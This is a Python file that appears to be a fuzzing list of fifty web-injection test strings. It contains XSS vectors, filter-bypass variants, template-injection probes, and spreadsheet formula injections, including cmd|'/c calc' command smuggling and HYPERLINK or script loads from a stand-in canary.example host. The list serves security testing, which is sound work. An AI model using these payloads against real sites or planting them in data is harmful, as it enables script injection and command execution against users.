"""Fifty things people type into fields that are not fields for them.

What runs calls `canary()`, or asks for something at canary.example; both are listened to.
"""

from typing import Final

PAYLOADS: Final = (
    # Elements that run by themselves
    "<script>canary()</script>",
    "<ScRiPt>canary()</sCrIpT>",
    "<script src=//canary.example/a.js></script>",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<script\x0c>canary()</script>",
    "</title><script>canary()</script>",
    "</textarea><script>canary()</script>",
    "</style><script>canary()</script>",
    "--><script>canary()</script><!--",
    "<![CDATA[<script>canary()</script>]]>",
    # Handlers
    "<img src=x onerror=canary()>",
    '"><img src=x onerror="canary()">',
    "'><img src=x onerror='canary()'>",
    "<img src=//canary.example/p.png>",
    "<body onload=canary()>",
    "<details open ontoggle=canary()>x</details>",
    "<input autofocus onfocus=canary()>",
    '" autofocus onfocus="canary()" x="',
    "' onmouseover='canary()' x='",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()></audio>",
    "<marquee onstart=canary()>x</marquee>",
    "<iframe src=//canary.example></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'>",
    "<object data=//canary.example></object>",
    "<embed src=//canary.example>",
    # SVG and MathML
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=canary()></mtext></math>",
    # Addresses
    "javascript:canary()",
    "java\tscript:canary()",
    "<a href=javascript:canary()>x</a>",
    "data:text/html,<script>canary()</script>",
    "<base href=//canary.example/>",
    "<link rel=stylesheet href=//canary.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//canary.example'>",
    "<form action=//canary.example><button>x</button></form>",
    "url(//canary.example/a.png)",
    # Templates and inline JSON
    "{{ 7*7 }}{% raw %}{{ cycler.__init__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    '"}</script><script>canary()</script>',
    '\\"});canary();//',
    "\u2028canary()\u2029",
    # Spreadsheets
    '=HYPERLINK("//canary.example","x")',
    "+cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    # Unicode
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\u202e<script>canary()</script>\u202c",
    "%3Cscript%3Ecanary()%3C/script%3E&lt;script&gt;canary()&lt;/script&gt;",
)
